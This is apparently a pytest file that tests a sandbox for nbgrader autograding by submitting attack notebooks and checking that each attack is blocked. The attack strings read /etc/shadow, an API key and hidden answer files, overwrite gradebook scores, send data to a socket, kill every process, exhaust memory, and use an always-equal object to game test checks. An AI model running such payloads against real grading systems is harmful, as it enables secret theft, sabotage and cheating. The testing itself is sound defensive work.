"""Grading is safe against the code it runs: attack submissions, each graded, each attack failing.

A probe course (`tools/gradeday/probe.py`) is graded by the real `nbgrader autograde` with
`WORKBOOK_SANDBOX=1`. Each attacker hands in the correct answers plus an attack in a solution cell
that prints BLOCKED or LEAKED; the test checks the score (graded normally), the printed verdict and
the attack's target (gradebook rows, a loopback listener, the grader still running). A control run
without the sandbox shows the snooping attacks do succeed there, so these tests can fail. The
sandbox needs Debian's `bubblewrap`; without it these tests fail with nbgrader's message saying so.
"""

from __future__ import annotations

import json
import socket
import sqlite3
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from dspy_workbook.grading import execute as nbgrader_execute
from dspy_workbook.grading.sandbox import SandboxUnavailable, sandbox_mode
from tools.gradeday.nbgrader_cli import nbgrader, venv_env
from tools.gradeday.probe import (
    ASSIGNMENT,
    HIDDEN_MARKER,
    NOTEBOOK,
    SOLUTIONS,
    probe_course,
    submission,
)

pytestmark = pytest.mark.slow

DOUBLE, GREET = SOLUTIONS["double"], SOLUTIONS["greet"]


def _verdict(found: str) -> str:
    """Code that prints LEAKED with what `found` holds, or BLOCKED when it is empty."""
    return f"print('LEAKED', {found}[:3]) if {found} else print('BLOCKED')\n"


def _attacks(course: Path, root: Path, port: int) -> dict[str, tuple[dict[str, str], float]]:
    """student -> (answers, expected score)."""
    master = course / "source" / ASSIGNMENT / NOTEBOOK
    read_master = (
        "import glob\nfound = []\ntry:\n    text = open(" + repr(str(master)) + ").read()\n"
        "    found.append(text[text.find('BEGIN HIDDEN'):][:300])\n"
        "except OSError:\n    pass\n"
        "found += glob.glob(" + repr(f"{root}/source/*/*.ipynb") + ")\n" + _verdict("found")
    )
    write_gradebook = (
        "import sqlite3\nfound = []\ntry:\n"
        "    db = sqlite3.connect(" + repr(f"file:{course}/gradebook.db?mode=rw") + ", uri=True)\n"
        "    db.execute('UPDATE grade SET manual_score = 99')\n    db.commit()\n"
        "    found.append('wrote the gradebook')\n"
        "except sqlite3.Error:\n    pass\n" + _verdict("found")
    )
    read_others = (
        "import glob, os\nfound = [p for p in glob.glob("
        + repr(f"{course}/*/*/{ASSIGNMENT}/*")
        + ") if os.getcwd() not in p]\n"
        + _verdict("found")
    )
    open_socket = (
        "import socket\nfound = []\nfor address in [('127.0.0.1', " + str(port) + ")]:\n"
        "    try:\n"
        "        socket.create_connection(address, timeout=2).sendall(b'scores')\n"
        "        found.append(address)\n    except OSError:\n        pass\n" + _verdict("found")
    )
    kill_all = (
        "import os, signal\nfor pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
        "    if pid != os.getpid():\n        try:\n            os.kill(pid, signal.SIGKILL)\n"
        "        except OSError:\n            pass\n"
        "os.kill(os.getppid(), signal.SIGKILL)\nprint('BLOCKED (still running)')\n"
    )
    exhaust_memory = (
        "chunks = []\ntry:\n    while len(chunks) < 1000:\n"
        "        chunks.append(bytearray(64 << 20))\n    print('LEAKED', len(chunks))\n"
        "except MemoryError:\n    print('BLOCKED after', len(chunks), 'chunks')\nchunks = None\n"
    )
    read_secrets = (
        "import os\nfound = [k for k in os.environ if k == 'GRADER_API_KEY']\n"
        "try:\n    found.append(open('/etc/shadow').read()[:20])\nexcept OSError:\n    pass\n"
        "found = [f for f in found if f]\n" + _verdict("found")
    )
    always_equal = (
        "class AlwaysEqual:\n    def __eq__(self, other):\n        return True\n\n"
        "def double(x):\n    return AlwaysEqual()\n"
    )
    stall = (
        "import time\nwhile True:\n    try:\n        time.sleep(0.1)\n"
        "    except KeyboardInterrupt:\n        pass\n"
    )
    honest = "import os\nimport dspy_workbook\nassert os.environ['WORKBOOK_LM'] == 'sim'\n" + DOUBLE
    return {
        "attack-master": ({"double": DOUBLE + read_master, "greet": GREET}, 3.0),
        "attack-gradebook": ({"double": DOUBLE + write_gradebook, "greet": GREET}, 3.0),
        "attack-others": ({"double": DOUBLE + read_others, "greet": GREET}, 3.0),
        "attack-socket": ({"double": DOUBLE + open_socket, "greet": GREET}, 3.0),
        "attack-secrets": ({"double": DOUBLE + read_secrets, "greet": GREET}, 3.0),
        "attack-killall": ({"double": DOUBLE + kill_all, "greet": GREET}, 3.0),
        "attack-killself": (
            {
                "double": DOUBLE,
                "greet": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n" + GREET,
            },
            2.0,
        ),
        "attack-memory": ({"double": DOUBLE + exhaust_memory, "greet": GREET}, 3.0),
        "attack-eq": ({"double": always_equal, "greet": GREET}, 1.0),
        "attack-stall": ({"double": stall, "greet": GREET}, 0.0),
        "honest": ({"double": honest, "greet": GREET}, 3.0),
    }


class Listener:
    """A loopback TCP listener that records every connection it accepts."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.accepted: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(1)
                self.accepted.append(conn.recv(100))

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.server.close()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


def _class_course(tmp: Path, root: Path, students: dict[str, tuple[dict[str, str], float]]) -> Path:
    course = probe_course(tmp, root / "nbgrader_config.py")
    run = nbgrader(course, "generate_assignment", ASSIGNMENT, "--force", timeout=120)
    assert run.returncode == 0, run.stdout + run.stderr
    release = course / "release" / ASSIGNMENT / NOTEBOOK
    for student, (answers, _) in students.items():
        folder = course / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        (folder / NOTEBOOK).write_text(submission(release, answers))
    return course


def _autograde(course: Path, sandbox: str) -> str:
    run = nbgrader(
        course,
        "autograde",
        ASSIGNMENT,
        "--force",
        "--Execute.timeout=15",
        "--GradingExecute.sandbox_memory_mb=1024",
        env=venv_env({"WORKBOOK_SANDBOX": sandbox, "GRADER_API_KEY": "not-for-students"}),
        timeout=300,
    )
    # nbgrader exits 1 only when a submission could not be graded at all: none may fail here.
    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-5000:]
    return run.stdout + run.stderr


def _scores(course: Path) -> dict[str, float]:
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        return {s.student.id: s.score for s in gradebook.assignment_submissions(ASSIGNMENT)}


def _printed(course: Path, student: str, grade_id: str = "double") -> str:
    nb = json.loads((course / "autograded" / student / ASSIGNMENT / NOTEBOOK).read_text())
    cell = next(
        c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id
    )
    return "".join(
        "".join(o.get("text", "")) + f"{o.get('ename', '')} {o.get('evalue', '')}"
        for o in cell["outputs"]
    )


@pytest.fixture(scope="module")
def attacked(
    root: Path, tmp_path_factory: pytest.TempPathFactory, listener: Listener, bwrap_binary: str
) -> dict:
    tmp = tmp_path_factory.mktemp("sandbox")
    students = _attacks(tmp / "course", root, listener.port)
    course = _class_course(tmp, root, students)
    log = _autograde(course, sandbox="1")
    return {"course": course, "students": students, "log": log}


def test_every_attacker_is_graded_normally(attacked: dict) -> None:
    expected = {student: score for student, (_, score) in attacked["students"].items()}
    assert _scores(attacked["course"]) == expected
    assert "Sandboxed grading kernel" in attacked["log"]


@pytest.mark.parametrize(
    "student",
    [
        "attack-master",
        "attack-gradebook",
        "attack-others",
        "attack-socket",
        "attack-secrets",
        "attack-killall",
        "attack-memory",
    ],
)
def test_the_attack_fails_inside_the_sandbox(attacked: dict, student: str) -> None:
    printed = _printed(attacked["course"], student)
    assert "BLOCKED" in printed and "LEAKED" not in printed, printed
    assert HIDDEN_MARKER not in printed


def test_the_gradebook_and_the_listener_were_not_reached(
    attacked: dict, listener: Listener
) -> None:
    with sqlite3.connect(attacked["course"] / "gradebook.db") as db:
        assert db.execute("SELECT COUNT(*) FROM grade WHERE manual_score = 99").fetchone() == (0,)
    assert listener.accepted == []


def test_memory_is_bounded(attacked: dict) -> None:
    printed = _printed(attacked["course"], "attack-memory")
    chunks = int(printed.split("BLOCKED after")[1].split()[0])
    assert chunks < 1024 // 64, "the 1024 MB bound did not apply"


def test_a_kernel_that_dies_or_stalls_scores_zero_for_what_did_not_run(attacked: dict) -> None:
    assert "KernelDied" in _printed(attacked["course"], "attack-killself", "test_greet")
    assert "CellTimeoutError" in _printed(attacked["course"], "attack-stall")
    assert "KernelDied" in _printed(attacked["course"], "attack-stall", "test_greet")
    assert "The kernel died while running cell" in attacked["log"]


def test_an_always_equal_object_fails_tests_that_check_types(attacked: dict) -> None:
    assert "must be the int 42" in _printed(attacked["course"], "attack-eq", "test_double")


def test_without_the_sandbox_the_same_snooping_succeeds(
    root: Path, tmp_path: Path, listener: Listener
) -> None:
    """The control: the attacks are real, so the sandbox is what stops them."""
    attacks = _attacks(tmp_path / "course", root, listener.port)
    names = ("attack-master", "attack-others", "attack-secrets", "honest")
    students = {name: attacks[name] for name in names}
    course = _class_course(tmp_path, root, students)
    _autograde(course, sandbox="0")
    for student in ("attack-master", "attack-others", "attack-secrets"):
        assert "LEAKED" in _printed(course, student), student
    assert HIDDEN_MARKER in _printed(course, "attack-master")


def test_the_sandbox_setting_is_read_and_a_missing_bwrap_is_said_clearly(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    assert [sandbox_mode({"WORKBOOK_SANDBOX": v}) for v in ("", "1", "0", "auto")] == [
        "auto",
        "on",
        "off",
        "auto",
    ]
    with pytest.raises(ValueError, match="WORKBOOK_SANDBOX"):
        sandbox_mode({"WORKBOOK_SANDBOX": "maybe"})
    monkeypatch.setattr(nbgrader_execute, "bwrap_path", lambda: None)
    execute = nbgrader_execute.GradingExecute(sandbox="on")
    with pytest.raises(SandboxUnavailable, match="apt-get install bubblewrap"):
        execute._make_sandbox()
    execute = nbgrader_execute.GradingExecute(sandbox="auto")
    assert execute._make_sandbox() is None
    assert "NOT SANDBOXED" in caplog.text


def test_a_bwrap_that_cannot_make_a_sandbox_here_is_said_clearly(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """Installed is not enough where user namespaces are off (Ubuntu 24.04's default)."""
    refusing = tmp_path / "bwrap"
    refusing.write_text(
        "#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n"
    )
    refusing.chmod(0o755)
    monkeypatch.setattr(nbgrader_execute, "bwrap_path", lambda: str(refusing))
    with pytest.raises(SandboxUnavailable, match="uid map: Permission denied"):
        nbgrader_execute.GradingExecute(sandbox="on")._make_sandbox()
    assert nbgrader_execute.GradingExecute(sandbox="auto")._make_sandbox() is None
    assert "NOT SANDBOXED" in caplog.text and "uid map" in caplog.text


def test_the_course_folder_from_nbgrader_config_is_hidden_and_the_submission_bound_after(
    tmp_path: Path,
) -> None:
    from traitlets.config import Config

    course = tmp_path / "srv" / "course"
    mine = course / "autograded" / "ada" / ASSIGNMENT
    mine.mkdir(parents=True)
    execute = nbgrader_execute.GradingExecute(
        config=Config({"CourseDirectory": {"root": str(course)}})
    )
    assert course in execute._hidden_folders()
    box = nbgrader_execute.Sandbox("bwrap", hide=execute._hidden_folders())
    argv = box.command(["python"], writable=mine, rundir=tmp_path)
    hidden_at = argv.index(str(course.resolve()))
    assert argv[hidden_at - 1] == "--tmpfs"
    bound_at = argv.index(str(mine.resolve()))
    assert argv[bound_at - 1] == "--bind" and bound_at > hidden_at
    assert "--unshare-all" in argv and argv[argv.index("--cap-drop") + 1] == "ALL"
